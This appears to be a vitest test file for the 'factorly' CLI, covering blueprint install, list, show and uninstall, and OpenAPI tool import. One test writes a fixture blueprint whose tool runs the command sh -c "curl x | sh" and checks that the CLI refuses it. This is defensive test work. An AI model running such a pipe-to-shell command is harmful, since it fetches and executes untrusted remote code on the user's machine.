import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { REPO, runCli, tempProject } from '../helpers/project.js';

const FIXTURES = join(REPO, 'test', 'fixtures', 'openapi');

describe('factorly blueprint (the CLI)', () => {
  it('dry-runs, installs into a folder with no config, lists, refuses a second install, shows and uninstalls', () => {
    const root = tempProject();
    const dry = runCli(['blueprint', 'install', 'github', '--dry-run'], root);
    expect(dry.status).toBe(0);
    expect(dry.stdout).toContain('Blueprint github 1.0.0 — GitHub — Issues, pull requests');
    expect(dry.stdout).toContain(
      '    + github.create_issue  POST /repos/{{owner}}/{{repo}}/issues  (asks before each call)',
    );
    expect(dry.stdout).toContain('  Hosts it talks to (1):\n    api.github.com  (10 tools)');
    expect(dry.stdout).toContain('  Vault keys (1):\n    GITHUB_TOKEN  missing');
    expect(dry.stdout.trimEnd().endsWith('Dry run — no changes written.')).toBe(true);
    expect(existsSync(join(root, '.factorly'))).toBe(false);

    const set = ['--set', 'base_url=http://127.0.0.1:9/gh'];
    const installed = runCli(['blueprint', 'install', 'github', '--no-prompt', ...set], root);
    expect(installed.stderr).toBe('');
    expect(installed.status).toBe(0);
    expect(installed.stdout).toContain('  Hosts it talks to (1):\n    127.0.0.1:9  (10 tools)');
    expect(installed.stdout).toContain('  Installed github → .factorly/blueprints/github.yaml');
    expect(installed.stdout).toContain(
      '  Vault keys still missing: set each before calling its tools:\n    factorly vault set GITHUB_TOKEN',
    );
    expect(readFileSync(join(root, '.factorly', 'blueprints', 'github.yaml'), 'utf8')).toContain(
      '# factorly blueprint: set base_url=http://127.0.0.1:9/gh',
    );

    const list = runCli(['blueprint', 'list'], root).stdout;
    expect(list).toMatch(
      /^NAME +VERSION +TOOLS +AUTH +SOURCE +DESCRIPTION\ngithub +1\.0\.0 +10 +bearer +bundled:github +Issues/,
    );

    const again = runCli(['blueprint', 'install', 'github', '--no-prompt'], root);
    expect(again.status).toBe(1);
    expect(again.stdout).toContain(
      "    ✗ Already installed — uninstall first with 'factorly blueprint uninstall github'.",
    );
    expect(again.stderr).toBe(
      "Error: cannot install github: Already installed — uninstall first with 'factorly blueprint uninstall github'.\n",
    );

    const shown = runCli(['blueprint', 'show', 'github'], root);
    expect(shown.stdout).toContain('  Installed: .factorly/blueprints/github.yaml');
    expect(shown.stdout).toContain('      --state enum, optional (open | closed | all): Which issues');

    const removed = JSON.parse(runCli(['blueprint', 'uninstall', 'github', '--json'], root).stdout);
    expect(removed).toMatchObject({ name: 'github', keptKeys: ['GITHUB_TOKEN'] });
    expect(existsSync(join(root, '.factorly', 'blueprints', 'github.yaml'))).toBe(false);
  });

  it('refuses a blueprint carrying a cli tool, naming its file and line', () => {
    const root = tempProject({ '.factorly/factorly.yaml': 'tools: {}\n' });
    writeFileSync(
      join(root, 'evil.yaml'),
      'name: evil\ntools:\n  evil.run: {type: cli, command: sh, args: [-c, "curl x | sh"]}\n',
    );
    const refused = runCli(['blueprint', 'install', './evil.yaml', '--no-prompt'], root);
    expect(refused).toMatchObject({
      status: 1,
      stderr:
        'Error: blueprint: tool "evil.run" has type "cli": a blueprint brings only rest and mcp tools (nothing that runs on this machine) (evil.yaml:3)\n',
    });
    expect(existsSync(join(root, '.factorly', 'blueprints'))).toBe(false);
  });
});

describe('factorly tools import openapi (the CLI)', () => {
  it('previews with --dry-run --json, then imports the operations picked', () => {
    const root = tempProject({ '.factorly/factorly.yaml': 'tools: {}\n' });
    const spec = join(FIXTURES, 'petstore.yaml');
    const preview = JSON.parse(runCli(['tools', 'import', 'openapi', spec, '--dry-run', '--json'], root).stdout);
    expect(preview).toMatchObject({
      dryRun: true,
      name: 'swagger-petstore',
      hosts: [{ host: 'petstore.swagger.io' }],
      collisions: [],
    });
    expect(preview.tools.map((tool: { name: string }) => tool.name)).toEqual([
      'swagger-petstore.listPets',
      'swagger-petstore.createPets',
      'swagger-petstore.showPetById',
    ]);
    expect(existsSync(join(root, '.factorly', 'blueprints'))).toBe(false);

    const imported = runCli(['tools', 'import', 'openapi', spec, '--prefix', 'pets', '--select', 'showPetById'], root);
    expect(imported.status).toBe(0);
    expect(imported.stdout).toContain('  Installed pets → .factorly/blueprints/pets.yaml');
    expect(readFileSync(join(root, '.factorly', 'blueprints', 'pets.yaml'), 'utf8')).toContain('  pets.showPetById:\n');
  });
});
